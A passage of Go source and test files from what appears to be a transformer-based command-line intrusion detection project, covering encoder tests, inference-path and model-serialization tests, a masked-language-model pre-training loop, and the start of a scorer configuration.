	if err := b.Validate(25, 16); err == nil {
		t.Error("out-of-vocab id accepted")
	}
	if err := b.Validate(50, 4); err == nil {
		t.Error("over-length sequence accepted")
	}
	empty := NewBatch([][]int{{}, {1}})
	if empty.Size() != 1 {
		t.Errorf("empty sequences should be dropped: %+v", empty)
	}
}

func TestEncoderForwardShapes(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	enc, err := NewEncoder(tinyConfig(), rng)
	if err != nil {
		t.Fatal(err)
	}
	b := tinyBatch()
	h, err := enc.Forward(b, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	if h.Rows() != b.Tokens() || h.Cols() != 16 {
		t.Fatalf("hidden %dx%d, want %dx16", h.Rows(), h.Cols(), b.Tokens())
	}
}

func TestEncoderDeterministicInference(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	enc, err := NewEncoder(tinyConfig(), rng)
	if err != nil {
		t.Fatal(err)
	}
	b := tinyBatch()
	h1, err := enc.Forward(b, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	h2, err := enc.Forward(b, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := range h1.Val.Data {
		if h1.Val.Data[i] != h2.Val.Data[i] {
			t.Fatal("inference is not deterministic")
		}
	}
}

func TestEncoderSequenceIsolation(t *testing.T) {
	// Hidden states of a sequence must not depend on which other sequences
	// share the batch: attention must not cross boundaries.
	rng := rand.New(rand.NewSource(3))
	enc, err := NewEncoder(tinyConfig(), rng)
	if err != nil {
		t.Fatal(err)
	}
	solo, err := enc.Forward(NewBatch([][]int{{2, 10, 11, 12, 3}}), false, nil)
	if err != nil {
		t.Fatal(err)
	}
	together, err := enc.Forward(NewBatch([][]int{{2, 10, 11, 12, 3}, {2, 40, 41, 42, 43, 3}}), false, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 5; i++ {
		for j := 0; j < 16; j++ {
			a, b := solo.Val.At(i, j), together.Val.At(i, j)
			if math.Abs(a-b) > 1e-9 {
				t.Fatalf("row %d col %d differs: %v vs %v", i, j, a, b)
			}
		}
	}
}

func TestEncoderErrors(t *testing.T) {
	rng := rand.New(rand.NewSource(4))
	enc, err := NewEncoder(tinyConfig(), rng)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := enc.Forward(Batch{}, false, nil); err == nil {
		t.Error("empty batch accepted")
	}
	if _, err := enc.Forward(tinyBatch(), true, nil); err == nil {
		t.Error("training without rng accepted despite dropout")
	}
	if _, err := NewEncoder(Config{}, rng); err == nil {
		t.Error("zero config accepted")
	}
}

func TestEmbedAndCLS(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	enc, err := NewEncoder(tinyConfig(), rng)
	if err != nil {
		t.Fatal(err)
	}
	b := tinyBatch()
	emb, err := enc.EmbedLines(b)
	if err != nil {
		t.Fatal(err)
	}
	if emb.Rows != 3 || emb.Cols != 16 {
		t.Fatalf("embeddings %dx%d, want 3x16", emb.Rows, emb.Cols)
	}
	cls, err := enc.CLSTensor(b, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	if cls.Rows() != 3 || cls.Cols() != 16 {
		t.Fatalf("cls %dx%d, want 3x16", cls.Rows(), cls.Cols())
	}
}

func TestMLMLossDecreases(t *testing.T) {
	// The core pre-training sanity check: a few AdamW steps on a fixed
	// masked batch must reduce the MLM loss.
	rng := rand.New(rand.NewSource(6))
	cfg := tinyConfig()
	cfg.Dropout = 0 // deterministic loss for a clean comparison
	m, err := NewModel(cfg, rng)
	if err != nil {
		t.Fatal(err)
	}
	b := NewBatch([][]int{
		{2, 10, 4, 12, 3}, // 4 = [MASK]
		{2, 4, 21, 3},
	})
	labels := []int{-100, -100, 11, -100, -100, -100, 20, -100, -100}
	opt := nn.NewAdamW(m.Params(), 3e-3, 0)
	var first, last float64
	for step := 0; step < 100; step++ {
		loss, err := m.MLMLoss(b, labels, -100, true, rng)
		if err != nil {
			t.Fatal(err)
		}
		if step == 0 {
			first = loss.Item()
		}
		last = loss.Item()
		if err := loss.Backward(); err != nil {
			t.Fatal(err)
		}
		opt.Step()
	}
	if !(last < first*0.5) {
		t.Fatalf("MLM loss did not drop: first %.4f last %.4f", first, last)
	}
}

func TestPooler(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	cfg := tinyConfig()
	p := NewPooler(cfg, rng)
	x := tensor.Const(tensor.NewMatrix(3, cfg.Hidden))
	y := p.Forward(x)
	if y.Rows() != 3 || y.Cols() != cfg.Hidden {
		t.Fatalf("pooler out %dx%d", y.Rows(), y.Cols())
	}
	for _, v := range y.Val.Data {
		if v < -1 || v > 1 {
			t.Fatalf("pooler output %v outside tanh range", v)
		}
	}
}

func TestSaveLoadRoundTrip(t *testing.T) {
	rng := rand.New(rand.NewSource(8))
	m, err := NewModel(tinyConfig(), rng)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := m.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	loaded, err := Load(&buf)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	b := tinyBatch()
	h1, err := m.Encoder.Forward(b, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	h2, err := loaded.Encoder.Forward(b, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := range h1.Val.Data {
		if h1.Val.Data[i] != h2.Val.Data[i] {
			t.Fatal("loaded model produces different hidden states")
		}
	}
}

func TestLoadRejectsGarbage(t *testing.T) {
	if _, err := Load(bytes.NewReader([]byte("not a gob"))); err == nil {
		t.Fatal("garbage accepted")
	}
}

func TestParamCountMatchesArchitecture(t *testing.T) {
	rng := rand.New(rand.NewSource(9))
	cfg := tinyConfig()
	m, err := NewModel(cfg, rng)
	if err != nil {
		t.Fatal(err)
	}
	got := nn.CountParams(m)
	h, f, v, s, l := cfg.Hidden, cfg.FFN, cfg.VocabSize, cfg.MaxSeqLen, cfg.Layers
	perBlock := 4*(h*h+h) + 2*h + (h*f + f) + (f*h + h) + 2*h
	want := v*h + s*h + 2*h + l*perBlock + (h*h + h) + 2*h + v
	if got != want {
		t.Fatalf("param count %d, want %d", got, want)
	}
}

func TestDropoutChangesTrainingForward(t *testing.T) {
	rng := rand.New(rand.NewSource(10))
	enc, err := NewEncoder(tinyConfig(), rng)
	if err != nil {
		t.Fatal(err)
	}
	b := tinyBatch()
	h1, err := enc.Forward(b, true, rng)
	if err != nil {
		t.Fatal(err)
	}
	h2, err := enc.Forward(b, true, rng)
	if err != nil {
		t.Fatal(err)
	}
	same := true
	for i := range h1.Val.Data {
		if h1.Val.Data[i] != h2.Val.Data[i] {
			same = false
			break
		}
	}
	if same {
		t.Fatal("dropout had no effect on training forward passes")
	}
}
