package model

import (
	"math"
	"math/rand"
	"testing"

	"clmids/internal/tensor"
)

// maxAbsDiff returns the largest elementwise |a-b|.
func maxAbsDiff(t *testing.T, a, b *tensor.Matrix) float64 {
	t.Helper()
	if !a.SameShape(b) {
		t.Fatalf("shape mismatch %dx%d vs %dx%d", a.Rows, a.Cols, b.Rows, b.Cols)
	}
	worst := 0.0
	for i, v := range a.Data {
		if d := math.Abs(v - b.Data[i]); d > worst {
			worst = d
		}
	}
	return worst
}

// TestInferForwardGolden asserts that the tape-free inference path matches
// the autograd forward pass bitwise: both run the same kernels in the same
// floating-point order, so even 1e-12 of drift would flag a divergence.
func TestInferForwardGolden(t *testing.T) {
	enc, err := NewEncoder(tinyConfig(), rand.New(rand.NewSource(7)))
	if err != nil {
		t.Fatal(err)
	}
	batch := tinyBatch()

	want, err := enc.Forward(batch, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	scratch := NewInferScratch(enc.Config(), batch.Tokens())
	got, err := enc.InferForward(batch, scratch)
	if err != nil {
		t.Fatal(err)
	}
	if d := maxAbsDiff(t, want.Val, got); d != 0 {
		t.Errorf("InferForward diverges from Forward by %g (want bitwise match)", d)
	}

	// Second run on the same (dirtied) scratch must still match.
	got2, err := enc.InferForward(batch, scratch)
	if err != nil {
		t.Fatal(err)
	}
	if d := maxAbsDiff(t, want.Val, got2); d != 0 {
		t.Errorf("scratch reuse diverges by %g", d)
	}
}

// TestInferEmbedAndCLSGolden checks the pooled variants against their tape
// equivalents.
func TestInferEmbedAndCLSGolden(t *testing.T) {
	enc, err := NewEncoder(tinyConfig(), rand.New(rand.NewSource(11)))
	if err != nil {
		t.Fatal(err)
	}
	batch := tinyBatch()
	scratch := NewInferScratch(enc.Config(), batch.Tokens())

	wantEmb, err := enc.EmbedLines(batch)
	if err != nil {
		t.Fatal(err)
	}
	gotEmb := tensor.NewMatrix(batch.Size(), enc.Config().Hidden)
	if err := enc.InferEmbedInto(batch, scratch, gotEmb, 0); err != nil {
		t.Fatal(err)
	}
	if d := maxAbsDiff(t, wantEmb, gotEmb); d != 0 {
		t.Errorf("InferEmbedInto diverges by %g", d)
	}

	wantCLS, err := enc.CLSTensor(batch, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	gotCLS := tensor.NewMatrix(batch.Size(), enc.Config().Hidden)
	if err := enc.InferCLSInto(batch, scratch, gotCLS, 0); err != nil {
		t.Fatal(err)
	}
	if d := maxAbsDiff(t, wantCLS.Val, gotCLS); d != 0 {
		t.Errorf("InferCLSInto diverges by %g", d)
	}
}

// TestInferForwardErrors covers the guard rails.
func TestInferForwardErrors(t *testing.T) {
	enc, err := NewEncoder(tinyConfig(), rand.New(rand.NewSource(3)))
	if err != nil {
		t.Fatal(err)
	}
	scratch := NewInferScratch(enc.Config(), 64)
	if _, err := enc.InferForward(tinyBatch(), nil); err == nil {
		t.Error("nil scratch accepted")
	}
	if _, err := enc.InferForward(Batch{}, scratch); err == nil {
		t.Error("empty batch accepted")
	}
	bad := Batch{IDs: []int{1, 2, 9999}, Lens: []int{3}}
	if _, err := enc.InferForward(bad, scratch); err == nil {
		t.Error("out-of-vocab batch accepted")
	}
	other := tinyConfig()
	other.Hidden = 32
	other.FFN = 64
	if _, err := enc.InferForward(tinyBatch(), NewInferScratch(other, 64)); err == nil {
		t.Error("mismatched scratch accepted")
	}
}

// TestInferScratchGrows verifies a small scratch transparently grows for a
// bigger batch instead of failing.
func TestInferScratchGrows(t *testing.T) {
	enc, err := NewEncoder(tinyConfig(), rand.New(rand.NewSource(5)))
	if err != nil {
		t.Fatal(err)
	}
	scratch := NewInferScratch(enc.Config(), 1) // raised to MaxSeqLen, still < batch
	var seqs [][]int
	for s := 0; s < 8; s++ {
		seqs = append(seqs, []int{2, 10 + s, 11, 12, 3})
	}
	batch := NewBatch(seqs)
	if batch.Tokens() <= scratch.MaxTokens() {
		t.Fatalf("batch of %d tokens does not exercise growth (cap %d)", batch.Tokens(), scratch.MaxTokens())
	}
	want, err := enc.Forward(batch, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	got, err := enc.InferForward(batch, scratch)
	if err != nil {
		t.Fatal(err)
	}
	if d := maxAbsDiff(t, want.Val, got); d != 0 {
		t.Errorf("grown scratch diverges by %g", d)
	}
}

// TestInferForwardAllocFree pins the headline property of the inference
// engine: once the scratch arena is warm, scoring a batch allocates
// nothing.
func TestInferForwardAllocFree(t *testing.T) {
	enc, err := NewEncoder(tinyConfig(), rand.New(rand.NewSource(9)))
	if err != nil {
		t.Fatal(err)
	}
	batch := tinyBatch()
	scratch := NewInferScratch(enc.Config(), batch.Tokens())
	out := tensor.NewMatrix(batch.Size(), enc.Config().Hidden)
	// Warm up once (tokenizer-independent path; nothing should be lazy,
	// but keep the measurement strictly steady-state).
	if err := enc.InferEmbedInto(batch, scratch, out, 0); err != nil {
		t.Fatal(err)
	}
	allocs := testing.AllocsPerRun(50, func() {
		if err := enc.InferEmbedInto(batch, scratch, out, 0); err != nil {
			t.Fatal(err)
		}
	})
	if allocs != 0 {
		t.Errorf("steady-state inference allocates %.1f objects/op, want 0", allocs)
	}
}
