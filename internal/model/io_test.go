package model

import (
	"bytes"
	"encoding/gob"
	"math/rand"
	"testing"
)

func savedTiny(t *testing.T) ([]byte, *Model) {
	t.Helper()
	rng := rand.New(rand.NewSource(21))
	m, err := NewModel(tinyConfig(), rng)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := m.Save(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), m
}

// TestLoadTruncatedSnapshot: cutting the gob stream anywhere returns an
// error, never a panic — the failure mode of a half-written model.gob
// after a crashed save or an interrupted download.
func TestLoadTruncatedSnapshot(t *testing.T) {
	full, _ := savedTiny(t)
	for _, n := range []int{0, 1, 16, len(full) / 4, len(full) / 2, len(full) - 1} {
		if _, err := Load(bytes.NewReader(full[:n])); err == nil {
			t.Errorf("truncation to %d/%d bytes accepted", n, len(full))
		}
	}
}

// TestLoadRejectsTamperedSnapshot: structurally valid gob with lying
// metadata — wrong format tag, shape/data disagreement, missing tensors —
// errors instead of building a scrambled model.
func TestLoadRejectsTamperedSnapshot(t *testing.T) {
	full, _ := savedTiny(t)
	decode := func(t *testing.T) *snapshot {
		t.Helper()
		var snap snapshot
		if err := gob.NewDecoder(bytes.NewReader(full)).Decode(&snap); err != nil {
			t.Fatal(err)
		}
		return &snap
	}
	reload := func(snap *snapshot) error {
		var buf bytes.Buffer
		if err := gob.NewEncoder(&buf).Encode(snap); err != nil {
			return err
		}
		_, err := Load(&buf)
		return err
	}

	t.Run("wrong format", func(t *testing.T) {
		snap := decode(t)
		snap.Format = "clmids-model v999"
		if err := reload(snap); err == nil {
			t.Fatal("future format accepted")
		}
	})
	t.Run("shape mismatch", func(t *testing.T) {
		snap := decode(t)
		snap.Shapes[0][0]++
		if err := reload(snap); err == nil {
			t.Fatal("shape drift accepted")
		}
	})
	t.Run("short tensor data", func(t *testing.T) {
		snap := decode(t)
		snap.Params[1] = snap.Params[1][:len(snap.Params[1])-1]
		if err := reload(snap); err == nil {
			t.Fatal("zero-length-shifted tensor accepted")
		}
	})
	t.Run("empty tensor section", func(t *testing.T) {
		snap := decode(t)
		snap.Params[2] = nil
		if err := reload(snap); err == nil {
			t.Fatal("nil tensor accepted")
		}
	})
	t.Run("dropped tensors", func(t *testing.T) {
		snap := decode(t)
		snap.Params = snap.Params[:len(snap.Params)/2]
		snap.Shapes = snap.Shapes[:len(snap.Shapes)/2]
		if err := reload(snap); err == nil {
			t.Fatal("half a model accepted")
		}
	})
	t.Run("untampered control", func(t *testing.T) {
		// The mutation harness itself must round-trip cleanly.
		if err := reload(decode(t)); err != nil {
			t.Fatalf("control reload failed: %v", err)
		}
	})
}

// TestSaveDeterministic: saving the same weights twice yields identical
// bytes — the property bundle checksums and content-derived versions
// depend on.
func TestSaveDeterministic(t *testing.T) {
	full, m := savedTiny(t)
	var again bytes.Buffer
	if err := m.Save(&again); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(full, again.Bytes()) {
		t.Fatal("two saves of the same model differ")
	}
}
