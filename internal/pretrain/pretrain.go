// Package pretrain implements the large-scale self-supervised pre-training
// stage of §II-B: RoBERTa-style dynamic masking over BPE-tokenized command
// lines and a mini-batch training loop that minimizes the masked-language-
// model cross-entropy with AdamW and a warmup-linear schedule.
package pretrain

import (
	"fmt"
	"math/rand"

	"clmids/internal/bpe"
	"clmids/internal/model"
	"clmids/internal/nn"
)

// IgnoreIndex marks unmasked positions in MLM labels.
const IgnoreIndex = -100

// MaskConfig controls the dynamic masking strategy. As in RoBERTa, each
// token is selected with probability Prob; a selected token is replaced by
// [MASK] with probability MaskRatio, by a random vocabulary token with
// probability RandomRatio, and otherwise kept unchanged (the model must
// still predict it).
type MaskConfig struct {
	Prob        float64
	MaskRatio   float64
	RandomRatio float64
}

// DefaultMask returns the standard 15% / 80-10-10 recipe.
func DefaultMask() MaskConfig {
	return MaskConfig{Prob: 0.15, MaskRatio: 0.8, RandomRatio: 0.1}
}

// Validate reports configuration errors.
func (m MaskConfig) Validate() error {
	if m.Prob <= 0 || m.Prob >= 1 {
		return fmt.Errorf("pretrain: mask prob %v outside (0,1)", m.Prob)
	}
	if m.MaskRatio < 0 || m.RandomRatio < 0 || m.MaskRatio+m.RandomRatio > 1 {
		return fmt.Errorf("pretrain: mask/random ratios %v/%v invalid", m.MaskRatio, m.RandomRatio)
	}
	return nil
}

// Mask applies dynamic masking to one token sequence, returning the
// corrupted copy and the label slice (original IDs at selected positions,
// IgnoreIndex elsewhere). Special tokens are never selected. At least one
// position is always selected so every sequence contributes signal.
func (m MaskConfig) Mask(ids []int, vocabSize int, rng *rand.Rand) (masked []int, labels []int) {
	masked = make([]int, len(ids))
	labels = make([]int, len(ids))
	copy(masked, ids)
	selected := 0
	var candidates []int
	for i, id := range ids {
		labels[i] = IgnoreIndex
		if bpe.IsSpecial(id) {
			continue
		}
		candidates = append(candidates, i)
		if rng.Float64() >= m.Prob {
			continue
		}
		m.corrupt(masked, labels, ids, i, vocabSize, rng)
		selected++
	}
	if selected == 0 && len(candidates) > 0 {
		i := candidates[rng.Intn(len(candidates))]
		m.corrupt(masked, labels, ids, i, vocabSize, rng)
	}
	return masked, labels
}

func (m MaskConfig) corrupt(masked, labels, ids []int, i, vocabSize int, rng *rand.Rand) {
	labels[i] = ids[i]
	r := rng.Float64()
	switch {
	case r < m.MaskRatio:
		masked[i] = bpe.MaskID
	case r < m.MaskRatio+m.RandomRatio:
		masked[i] = bpe.NumSpecials + rng.Intn(vocabSize-bpe.NumSpecials)
	default:
		// keep the original token
	}
}

// Config controls the pre-training loop.
type Config struct {
	// Epochs over the corpus.
	Epochs int
	// BatchSize in sequences.
	BatchSize int
	// LR is the peak learning rate for AdamW.
	LR float64
	// WarmupFrac is the fraction of total steps spent warming up.
	WarmupFrac float64
	// WeightDecay for AdamW.
	WeightDecay float64
	// GradClip bounds the global gradient norm; 0 disables clipping.
	GradClip float64
	// Mask is the masking recipe.
	Mask MaskConfig
	// Seed drives shuffling, masking, and dropout.
	Seed int64
	// Logf, when non-nil, receives progress lines.
	Logf func(format string, args ...any)
}

// DefaultConfig returns a single-CPU-friendly recipe.
func DefaultConfig() Config {
	return Config{
		Epochs:      2,
		BatchSize:   16,
		LR:          5e-4,
		WarmupFrac:  0.1,
		WeightDecay: 0.01,
		GradClip:    1.0,
		Mask:        DefaultMask(),
		Seed:        1,
	}
}

// Validate reports configuration errors.
func (c Config) Validate() error {
	if c.Epochs <= 0 || c.BatchSize <= 0 {
		return fmt.Errorf("pretrain: epochs %d / batch %d must be positive", c.Epochs, c.BatchSize)
	}
	if c.LR <= 0 {
		return fmt.Errorf("pretrain: LR must be positive")
	}
	if c.WarmupFrac < 0 || c.WarmupFrac >= 1 {
		return fmt.Errorf("pretrain: warmup fraction %v outside [0,1)", c.WarmupFrac)
	}
	return c.Mask.Validate()
}

// History records training progress.
type History struct {
	// EpochLoss is the mean MLM loss per epoch.
	EpochLoss []float64
	// Steps is the total optimizer steps taken.
	Steps int
	// FinalLoss is the mean loss of the last epoch.
	FinalLoss float64
}

// Run pre-trains m on the tokenized sequences. Each element of seqs is one
// command line already encoded as [CLS] ... [SEP]. Sequences shorter than
// two tokens are skipped.
func Run(m *model.Model, seqs [][]int, cfg Config) (History, error) {
	var hist History
	if err := cfg.Validate(); err != nil {
		return hist, err
	}
	data := make([][]int, 0, len(seqs))
	maxLen := m.Encoder.Config().MaxSeqLen
	for _, s := range seqs {
		if len(s) >= 2 && len(s) <= maxLen {
			data = append(data, s)
		}
	}
	if len(data) == 0 {
		return hist, fmt.Errorf("pretrain: no usable sequences")
	}

	rng := rand.New(rand.NewSource(cfg.Seed))
	params := m.Params()
	stepsPerEpoch := (len(data) + cfg.BatchSize - 1) / cfg.BatchSize
	total := stepsPerEpoch * cfg.Epochs
	sched := nn.WarmupLinear{
		Peak:   cfg.LR,
		Warmup: int(float64(total) * cfg.WarmupFrac),
		Total:  total,
	}
	opt := nn.NewAdamW(params, cfg.LR, cfg.WeightDecay)
	vocab := m.Encoder.Config().VocabSize

	order := make([]int, len(data))
	for i := range order {
		order[i] = i
	}
	step := 0
	for epoch := 0; epoch < cfg.Epochs; epoch++ {
		rng.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
		sum, batches := 0.0, 0
		for at := 0; at < len(order); at += cfg.BatchSize {
			end := at + cfg.BatchSize
			if end > len(order) {
				end = len(order)
			}
			var batchSeqs [][]int
			var labels []int
			for _, di := range order[at:end] {
				masked, labs := cfg.Mask.Mask(data[di], vocab, rng)
				batchSeqs = append(batchSeqs, masked)
				labels = append(labels, labs...)
			}
			batch := model.NewBatch(batchSeqs)
			loss, err := m.MLMLoss(batch, labels, IgnoreIndex, true, rng)
			if err != nil {
				return hist, fmt.Errorf("pretrain: step %d: %w", step, err)
			}
			if err := loss.Backward(); err != nil {
				return hist, fmt.Errorf("pretrain: step %d backward: %w", step, err)
			}
			if cfg.GradClip > 0 {
				nn.ClipGradNorm(params, cfg.GradClip)
			}
			opt.SetLR(sched.At(step))
			opt.Step()
			sum += loss.Item()
			batches++
			step++
		}
		epochLoss := sum / float64(batches)
		hist.EpochLoss = append(hist.EpochLoss, epochLoss)
		if cfg.Logf != nil {
			cfg.Logf("pretrain: epoch %d/%d loss %.4f lr %.2e", epoch+1, cfg.Epochs, epochLoss, opt.LR())
		}
	}
	hist.Steps = step
	hist.FinalLoss = hist.EpochLoss[len(hist.EpochLoss)-1]
	return hist, nil
}

// Evaluate computes the mean MLM loss over held-out sequences with a fixed
// masking seed, for monitoring generalization.
func Evaluate(m *model.Model, seqs [][]int, mask MaskConfig, batchSize int, seed int64) (float64, error) {
	if err := mask.Validate(); err != nil {
		return 0, err
	}
	if batchSize <= 0 {
		batchSize = 16
	}
	rng := rand.New(rand.NewSource(seed))
	vocab := m.Encoder.Config().VocabSize
	maxLen := m.Encoder.Config().MaxSeqLen
	data := make([][]int, 0, len(seqs))
	for _, s := range seqs {
		if len(s) >= 2 && len(s) <= maxLen {
			data = append(data, s)
		}
	}
	if len(data) == 0 {
		return 0, fmt.Errorf("pretrain: no usable sequences")
	}
	sum, batches := 0.0, 0
	for at := 0; at < len(data); at += batchSize {
		end := at + batchSize
		if end > len(data) {
			end = len(data)
		}
		var batchSeqs [][]int
		var labels []int
		for _, s := range data[at:end] {
			masked, labs := mask.Mask(s, vocab, rng)
			batchSeqs = append(batchSeqs, masked)
			labels = append(labels, labs...)
		}
		loss, err := m.MLMLoss(model.NewBatch(batchSeqs), labels, IgnoreIndex, false, nil)
		if err != nil {
			return 0, err
		}
		sum += loss.Item()
		batches++
	}
	return sum / float64(batches), nil
}
