package pretrain

import (
	"math/rand"
	"testing"

	"clmids/internal/bpe"
	"clmids/internal/model"
)

func TestMaskConfigValidate(t *testing.T) {
	if err := DefaultMask().Validate(); err != nil {
		t.Fatalf("default mask invalid: %v", err)
	}
	bad := []MaskConfig{
		{Prob: 0, MaskRatio: 0.8, RandomRatio: 0.1},
		{Prob: 1, MaskRatio: 0.8, RandomRatio: 0.1},
		{Prob: 0.15, MaskRatio: 0.8, RandomRatio: 0.3},
		{Prob: 0.15, MaskRatio: -0.1, RandomRatio: 0.1},
	}
	for i, m := range bad {
		if err := m.Validate(); err == nil {
			t.Errorf("case %d: invalid mask accepted: %+v", i, m)
		}
	}
}

func TestMaskNeverTouchesSpecials(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	cfg := MaskConfig{Prob: 0.9, MaskRatio: 0.8, RandomRatio: 0.1}
	ids := []int{bpe.ClsID, 10, 11, 12, 13, bpe.SepID}
	for trial := 0; trial < 100; trial++ {
		masked, labels := cfg.Mask(ids, 50, rng)
		if masked[0] != bpe.ClsID || masked[len(masked)-1] != bpe.SepID {
			t.Fatal("special token was corrupted")
		}
		if labels[0] != IgnoreIndex || labels[len(labels)-1] != IgnoreIndex {
			t.Fatal("special token was labeled")
		}
	}
}

func TestMaskAlwaysSelectsAtLeastOne(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	cfg := MaskConfig{Prob: 0.001, MaskRatio: 1, RandomRatio: 0}
	ids := []int{bpe.ClsID, 10, bpe.SepID}
	for trial := 0; trial < 50; trial++ {
		_, labels := cfg.Mask(ids, 50, rng)
		n := 0
		for _, l := range labels {
			if l != IgnoreIndex {
				n++
			}
		}
		if n == 0 {
			t.Fatal("no position selected")
		}
	}
}

func TestMaskLabelsHoldOriginals(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	cfg := MaskConfig{Prob: 0.5, MaskRatio: 1, RandomRatio: 0}
	ids := []int{bpe.ClsID, 10, 11, 12, bpe.SepID}
	masked, labels := cfg.Mask(ids, 50, rng)
	for i, l := range labels {
		if l == IgnoreIndex {
			continue
		}
		if l != ids[i] {
			t.Fatalf("label %d = %d, want original %d", i, l, ids[i])
		}
		if masked[i] != bpe.MaskID {
			t.Fatalf("with MaskRatio=1 position %d should be [MASK], got %d", i, masked[i])
		}
	}
}

func TestMaskRatioStatistics(t *testing.T) {
	rng := rand.New(rand.NewSource(4))
	cfg := DefaultMask()
	ids := make([]int, 1002)
	ids[0] = bpe.ClsID
	ids[len(ids)-1] = bpe.SepID
	for i := 1; i < len(ids)-1; i++ {
		ids[i] = 10 + i%30
	}
	selected, maskTok := 0, 0
	trials := 30
	for trial := 0; trial < trials; trial++ {
		masked, labels := cfg.Mask(ids, 100, rng)
		for i, l := range labels {
			if l == IgnoreIndex {
				continue
			}
			selected++
			if masked[i] == bpe.MaskID {
				maskTok++
			}
		}
	}
	totalPositions := float64(trials * 1000)
	selRate := float64(selected) / totalPositions
	if selRate < 0.12 || selRate > 0.18 {
		t.Errorf("selection rate %.3f, want ~0.15", selRate)
	}
	maskRate := float64(maskTok) / float64(selected)
	if maskRate < 0.75 || maskRate > 0.85 {
		t.Errorf("[MASK] replacement rate %.3f, want ~0.8", maskRate)
	}
}

func tinyModel(t testing.TB) *model.Model {
	t.Helper()
	cfg := model.Config{
		VocabSize: 300, MaxSeqLen: 16, Hidden: 16, Layers: 1, Heads: 2,
		FFN: 32, LayerNormEps: 1e-5, Dropout: 0,
	}
	m, err := model.NewModel(cfg, rand.New(rand.NewSource(5)))
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func toySeqs() [][]int {
	// A tiny synthetic language with strong bigram structure so the MLM
	// objective has something to learn.
	var seqs [][]int
	for i := 0; i < 60; i++ {
		a := 10 + (i % 5)
		seqs = append(seqs, []int{bpe.ClsID, a, a + 100, a + 200, bpe.SepID})
	}
	return seqs
}

func TestRunReducesLoss(t *testing.T) {
	m := tinyModel(t)
	cfg := DefaultConfig()
	cfg.Epochs = 4
	cfg.BatchSize = 8
	cfg.LR = 3e-3
	hist, err := Run(m, toySeqs(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(hist.EpochLoss) != 4 {
		t.Fatalf("epoch losses = %d, want 4", len(hist.EpochLoss))
	}
	if hist.FinalLoss >= hist.EpochLoss[0] {
		t.Fatalf("loss did not drop: %v", hist.EpochLoss)
	}
	if hist.Steps != 4*8 { // 60 seqs / batch 8 = 8 steps per epoch
		t.Fatalf("steps = %d, want 32", hist.Steps)
	}
}

func TestRunRejectsBadInput(t *testing.T) {
	m := tinyModel(t)
	if _, err := Run(m, nil, DefaultConfig()); err == nil {
		t.Error("empty corpus accepted")
	}
	cfg := DefaultConfig()
	cfg.Epochs = 0
	if _, err := Run(m, toySeqs(), cfg); err == nil {
		t.Error("zero epochs accepted")
	}
	// Over-length sequences are skipped; all-over-length means no data.
	long := make([]int, 64)
	if _, err := Run(m, [][]int{long}, DefaultConfig()); err == nil {
		t.Error("over-length-only corpus accepted")
	}
}

func TestRunDeterministic(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Epochs = 1
	cfg.BatchSize = 8
	m1 := tinyModel(t)
	h1, err := Run(m1, toySeqs(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	m2 := tinyModel(t)
	h2, err := Run(m2, toySeqs(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if h1.FinalLoss != h2.FinalLoss {
		t.Fatalf("same seed, different loss: %v vs %v", h1.FinalLoss, h2.FinalLoss)
	}
}

func TestEvaluate(t *testing.T) {
	m := tinyModel(t)
	seqs := toySeqs()
	before, err := Evaluate(m, seqs, DefaultMask(), 8, 7)
	if err != nil {
		t.Fatal(err)
	}
	cfg := DefaultConfig()
	cfg.Epochs = 5
	cfg.LR = 3e-3
	if _, err := Run(m, seqs, cfg); err != nil {
		t.Fatal(err)
	}
	after, err := Evaluate(m, seqs, DefaultMask(), 8, 7)
	if err != nil {
		t.Fatal(err)
	}
	if after >= before {
		t.Fatalf("held-out loss did not improve: %.4f -> %.4f", before, after)
	}
	if _, err := Evaluate(m, nil, DefaultMask(), 8, 7); err == nil {
		t.Error("empty eval set accepted")
	}
}
