package core

import (
	"fmt"

	"clmids/internal/linalg"
	"clmids/internal/tuning"
)

// ScorerConfig selects and parameterizes a detection method for serving.
// The same construction backs cmd/clmdetect and cmd/clmserve, so both
// produce identical scorers from identical flags.
type ScorerConfig struct {
	// Method is one of classifier | retrieval | reconstruction | pca.
	Method string
	// Epochs tunes the classifier head (0 = method default).
	Epochs int
	// Seed drives tuning randomness.
	Seed int64
}

// ScorerMethods lists the valid ScorerConfig.Method values.
func ScorerMethods() []string {
	return []string{"classifier", "retrieval", "reconstruction", "pca"}
}

// ReplicateScorer turns one built scorer into n scorers that score
// byte-identically: the original first, then n-1 replicas sharing every
// frozen artifact (backbone weights, trained head, fitted PCA or retrieval
// index) while owning their own inference engine (scratch pool + LRU
// cache). This is the construction the sharded streaming detector uses —
// one replica per shard, no re-tuning, no cross-shard lock contention.
// Every method BuildScorer returns is replicable.
func ReplicateScorer(s tuning.Scorer, n int) ([]tuning.Scorer, error) {
	return tuning.Replicas(s, n)
}

// BuildScorer constructs the requested §III/§IV method over the pipeline's
